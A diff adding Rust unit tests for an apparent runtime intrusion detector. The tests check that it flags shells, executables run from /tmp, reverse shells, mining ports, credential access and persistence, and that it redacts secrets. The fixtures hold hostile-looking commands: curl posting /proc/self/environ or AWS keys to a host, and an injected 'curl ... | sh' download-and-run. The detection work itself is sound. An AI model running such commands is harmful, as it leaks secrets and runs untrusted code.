@@ -1,0 +1,364 @@
+use super::*;
+use crate::schema::Indicator;
+use crate::schema::Proto;
+use crate::testing::{endpoint, left_running, process};
+
+fn feed(t: &mut Tracker, f: &Familiar, obs: &Observation) -> Vec<Indicator> {
+    t.feed(obs, f, "/tmp/")
+}
+
+#[test]
+fn a_shell_fires_once_per_invocation() {
+    let (mut t, f) = (Tracker::default(), Familiar::default());
+    assert_eq!(
+        feed(&mut t, &f, &process(10, "/usr/bin/dash", "sh -c id")),
+        vec![Indicator::ShellSpawned]
+    );
+    assert!(feed(&mut t, &f, &process(11, "/usr/bin/bash", "bash -i")).is_empty());
+    assert_eq!(t.get(Indicator::ShellSpawned).map(|h| h.count), Some(2));
+}
+
+#[test]
+fn familiar_programs_do_not_fire() {
+    let mut f = Familiar::default();
+    f.learn(&[
+        process(1, "/usr/bin/gzip", "gzip -6"),
+        endpoint("10.0.0.2:443"),
+    ]);
+    f.add_exe("sh");
+    let mut t = Tracker::default();
+    assert!(feed(&mut t, &f, &process(10, "/usr/bin/gzip", "gzip -9")).is_empty());
+    assert!(feed(&mut t, &f, &process(11, "/bin/sh", "sh -c gzip")).is_empty());
+    assert!(feed(&mut t, &f, &endpoint("10.0.0.2:443")).is_empty());
+    assert_eq!(
+        feed(&mut t, &f, &process(12, "/usr/bin/id", "id")),
+        vec![Indicator::UnknownBinary]
+    );
+}
+
+#[test]
+fn exec_from_tmp_binary_or_script() {
+    let f = Familiar::default();
+    let mut t = Tracker::default();
+    assert_eq!(
+        feed(&mut t, &f, &process(10, "/tmp/x", "/tmp/x --run")),
+        vec![Indicator::ExecFromTmp]
+    );
+    let mut t = Tracker::default();
+    let fired = feed(
+        &mut t,
+        &f,
+        &process(10, "/usr/bin/dash", "/bin/sh /tmp/drop.sh"),
+    );
+    assert_eq!(fired, vec![Indicator::ExecFromTmp, Indicator::ShellSpawned]);
+}
+
+#[test]
+fn a_shell_and_a_new_connection_is_a_reverse_shell_in_either_order() {
+    let f = Familiar::default();
+    let mut t = Tracker::default();
+    feed(&mut t, &f, &process(10, "/bin/bash", "bash -i"));
+    let fired = feed(&mut t, &f, &endpoint("10.0.0.9:4242"));
+    assert_eq!(
+        fired,
+        vec![
+            Indicator::UnknownDestination,
+            Indicator::ShellWithConnection
+        ]
+    );
+    let hit = t.get(Indicator::ShellWithConnection).expect("fired");
+    assert_eq!(hit.evidence.len(), 2);
+
+    let mut t = Tracker::default();
+    feed(&mut t, &f, &endpoint("10.0.0.9:4242"));
+    let fired = feed(&mut t, &f, &process(10, "/bin/sh", "/bin/sh -i"));
+    assert!(fired.contains(&Indicator::ShellWithConnection));
+}
+
+#[test]
+fn network_indicators() {
+    let f = Familiar::default();
+    let mut t = Tracker::default();
+    let fired = feed(&mut t, &f, &endpoint("10.0.0.9:3333"));
+    assert_eq!(
+        fired,
+        vec![Indicator::MiningPort, Indicator::UnknownDestination]
+    );
+    let listener = Observation::Endpoint {
+        proto: Proto::Tcp,
+        addr: "0.0.0.0:4444".parse().expect("addr"),
+        listen: true,
+    };
+    assert_eq!(feed(&mut t, &f, &listener), vec![Indicator::ListenerOpened]);
+}
+
+#[test]
+fn left_running_and_credentials() {
+    let f = Familiar::default();
+    let mut t = Tracker::default();
+    let fired = feed(&mut t, &f, &left_running(20, "/usr/bin/sleep", "sleep 300"));
+    assert_eq!(fired, vec![Indicator::LeftRunning]);
+    let fired = feed(
+        &mut t,
+        &f,
+        &process(
+            21,
+            "/usr/bin/curl",
+            "curl --data-binary @/proc/self/environ http://x/",
+        ),
+    );
+    assert!(fired.contains(&Indicator::CredentialAccess));
+}
+
+#[test]
+fn evidence_is_redacted() {
+    let f = Familiar::default();
+    let mut t = Tracker::default();
+    feed(
+        &mut t,
+        &f,
+        &process(
+            21,
+            "/usr/bin/curl",
+            "curl -d AWS_SECRET_ACCESS_KEY=abc123 http://x/",
+        ),
+    );
+    let hit = t.get(Indicator::CredentialAccess).expect("fired");
+    match &hit.evidence[0] {
+        Observation::Process { cmdline, .. } => {
+            assert_eq!(
+                cmdline,
+                "curl -d AWS_SECRET_ACCESS_KEY=[REDACTED] http://x/"
+            )
+        }
+        other => panic!("{other:?}"),
+    }
+}
+
+#[test]
+fn weights_and_features() {
+    assert!(Indicator::UnknownBinary.weight(true) > Indicator::UnknownBinary.weight(false));
+    assert!(Indicator::UnknownDestination.weight(true) < 0.5);
+    assert_eq!(Indicator::ShellWithConnection.class(), Class::ReverseShell);
+    assert_eq!(Indicator::LeftRunning.feature(), idx::LEFT_RUNNING);
+}
+
+#[test]
+fn a_runtime_forking_itself_is_not_an_unknown_binary() {
+    let f = Familiar::default();
+    let mut t = Tracker::default();
+    let fork = process(
+        13,
+        "/var/lang/bin/python3.12",
+        "python -m awslambdaric handler.handler",
+    );
+    assert!(feed(&mut t, &f, &fork).is_empty());
+    let mut exec = process(13, "/usr/bin/id", "id");
+    if let Observation::Process { exec: e, .. } = &mut exec {
+        *e = true;
+    }
+    assert_eq!(feed(&mut t, &f, &exec), vec![Indicator::UnknownBinary]);
+}
+
+#[test]
+fn a_secret_in_a_command_is_redacted_in_its_shape_so_a_rotated_one_matches() {
+    let with = |token: &str| {
+        command_shape(&format!(
+            "/bin/sh -c curl -H 'Authorization: Bearer {token}' https://api/x"
+        ))
+    };
+    let shape = with("eyJhbGciOiJIUzI1NiJ9abcDEF123");
+    assert!(!shape.contains("eyJ"), "{shape}");
+    assert_eq!(shape, with("eyJhbGciOiJSUzI1NiJ9xyzUVW987"));
+}
+
+#[test]
+fn command_shapes_keep_the_command_and_drop_what_varies() {
+    assert_eq!(
+        command_shape(
+            "/bin/sh -c gzip -9 -c /tmp/inbox/a1.bin | wc -c && sha256sum /tmp/inbox/a1.bin"
+        ),
+        "sh -c gzip -0 -c /tmp/inbox/* | wc -c && sha000sum /tmp/inbox/*"
+    );
+    assert_eq!(
+        command_shape(
+            "/bin/sh -c gzip -2 -c /tmp/inbox/ff.bin | wc -c && sha256sum /tmp/inbox/ff.bin"
+        ),
+        command_shape(
+            "/usr/bin/sh -c gzip -9 -c /tmp/inbox/00.bin | wc -c && sha256sum /tmp/inbox/00.bin"
+        )
+    );
+    // Text appended to the known command changes the shape.
+    assert_ne!(
+        command_shape(
+            "/bin/sh -c gzip -6; id -c /tmp/inbox/a.bin | wc -c && sha256sum /tmp/inbox/a.bin"
+        ),
+        command_shape(
+            "/bin/sh -c gzip -6 -c /tmp/inbox/a.bin | wc -c && sha256sum /tmp/inbox/a.bin"
+        )
+    );
+}
+
+#[test]
+fn a_shell_is_familiar_only_with_a_known_command_shape() {
+    let mut f = Familiar::default();
+    f.learn(&[process(
+        1,
+        "/usr/bin/dash",
+        "/bin/sh -c gzip -6 -c /tmp/in/a.bin | wc -c",
+    )]);
+    let mut t = Tracker::default();
+    assert!(feed(
+        &mut t,
+        &f,
+        &process(
+            10,
+            "/usr/bin/dash",
+            "/bin/sh -c gzip -1 -c /tmp/in/b.bin | wc -c"
+        )
+    )
+    .is_empty());
+    assert_eq!(
+        feed(
+            &mut t,
+            &f,
+            &process(
+                11,
+                "/usr/bin/dash",
+                "/bin/sh -c gzip -1; curl -s http://10.0.0.9/x | sh #"
+            )
+        ),
+        vec![Indicator::ShellSpawned]
+    );
+    // A shell is never learned as a plain executable.
+    assert!(!f.knows_exe("/usr/bin/dash"));
+}
+
+#[test]
+fn only_interpreters_run_a_script_from_tmp() {
+    let f = Familiar::default();
+    let mut t = Tracker::default();
+    let fired = feed(
+        &mut t,
+        &f,
+        &process(10, "/usr/bin/gzip", "gzip -9 -c /tmp/inbox/a.bin"),
+    );
+    assert_eq!(fired, vec![Indicator::UnknownBinary]);
+    let fired = feed(
+        &mut t,
+        &f,
+        &process(11, "/usr/bin/python3.11", "python3 /tmp/.X11-unix/.sd"),
+    );
+    assert_eq!(fired, vec![Indicator::ExecFromTmp]);
+}
+
+#[test]
+fn a_process_gone_before_it_could_be_named_is_not_judged() {
+    let f = Familiar::default();
+    let mut t = Tracker::default();
+    assert!(feed(&mut t, &f, &process(10, "", "")).is_empty());
+    // Its command line names it when only the executable link was unreadable.
+    assert_eq!(
+        feed(&mut t, &f, &process(11, "", "/usr/bin/id -u")),
+        vec![Indicator::UnknownBinary]
+    );
+    let mut f = Familiar::default();
+    f.learn(&[process(1, "", "")]);
+    assert!(f.exes().is_empty());
+}
+
+#[test]
+fn an_exiting_shell_without_a_command_line_is_judged_by_the_functions_habits() {
+    let f = Familiar::default();
+    let mut t = Tracker::default();
+    assert_eq!(
+        feed(&mut t, &f, &process(10, "/usr/bin/dash", "")),
+        vec![Indicator::ShellSpawned]
+    );
+    let mut f = Familiar::default();
+    f.add_shell_shape(&command_shape("/bin/sh -c gzip -6 -c /tmp/in/a.bin"));
+    let mut t = Tracker::default();
+    assert!(feed(&mut t, &f, &process(10, "/usr/bin/dash", "")).is_empty());
+}
+
+fn program(exe: &str) -> Observation {
+    Observation::Program { exe: exe.into() }
+}
+
+#[test]
+fn a_program_seen_only_by_the_file_watch_is_judged_like_a_process() {
+    let mut f = Familiar::default();
+    f.learn(&[program("/usr/bin/gzip")]);
+    let mut t = Tracker::default();
+    assert!(feed(&mut t, &f, &program("/usr/bin/gzip")).is_empty());
+    assert_eq!(
+        feed(&mut t, &f, &program("/usr/bin/id")),
+        vec![Indicator::UnknownBinary]
+    );
+    assert_eq!(
+        feed(&mut t, &f, &program("/tmp/.x/payload")),
+        vec![Indicator::ExecFromTmp]
+    );
+    // A shell without a command line: new for a function that runs none...
+    assert_eq!(
+        feed(&mut t, &f, &program("/usr/bin/dash")),
+        vec![Indicator::ShellSpawned]
+    );
+    // ...familiar for one whose shell commands are known (its shape cannot be checked).
+    let mut runs_shells = Familiar::default();
+    runs_shells.learn(&[process(
+        1,
+        "/usr/bin/dash",
+        "sh -c gzip -6 -c /tmp/in/a.bin",
+    )]);
+    let mut t = Tracker::default();
+    assert!(feed(&mut t, &runs_shells, &program("/usr/bin/dash")).is_empty());
+}
+
+#[test]
+fn a_process_still_running_from_earlier_is_persistence_with_its_name() {
+    let (mut t, f) = (Tracker::default(), Familiar::default());
+    let planted = Observation::StillRunning {
+        pid: 77,
+        exe: "/usr/bin/python3.11".into(),
+        cmdline: "python3 /tmp/.X11-unix/.sd".into(),
+    };
+    assert_eq!(feed(&mut t, &f, &planted), vec![Indicator::StillRunning]);
+    assert_eq!(Indicator::StillRunning.class(), Class::Persistence);
+    assert_eq!(t.get(Indicator::StillRunning).unwrap().evidence.len(), 1);
+}
+
+#[test]
+fn a_command_repeated_in_a_new_environment_becomes_a_habit_after_three_invocations() {
+    let mut f = Familiar::default();
+    let own = [
+        process(
+            10,
+            "/usr/bin/dash",
+            "sh -c gzip -6 -c /tmp/in/a1.bin | wc -c",
+        ),
+        program("/usr/bin/dash"),
+        program("/usr/bin/gzip"),
+    ];
+    for n in 0..HABIT_REPEATS {
+        let mut t = Tracker::default();
+        let fired = own.iter().flat_map(|o| feed(&mut t, &f, o)).count();
+        assert!(fired > 0, "invocation {n} is still reported");
+        f.note_repeated(&own);
+    }
+    let mut t = Tracker::default();
+    for o in &own {
+        assert!(feed(&mut t, &f, o).is_empty(), "{o:?} is a habit now");
+    }
+    // Another command through the same shell is not.
+    let injected = process(
+        11,
+        "/usr/bin/dash",
+        "sh -c gzip -6 -c /tmp/in/a1.bin; id | wc -c",
+    );
+    assert_eq!(feed(&mut t, &f, &injected), vec![Indicator::ShellSpawned]);
+    assert_eq!(
+        feed(&mut t, &f, &program("/usr/bin/id")),
+        vec![Indicator::UnknownBinary]
+    );
+}
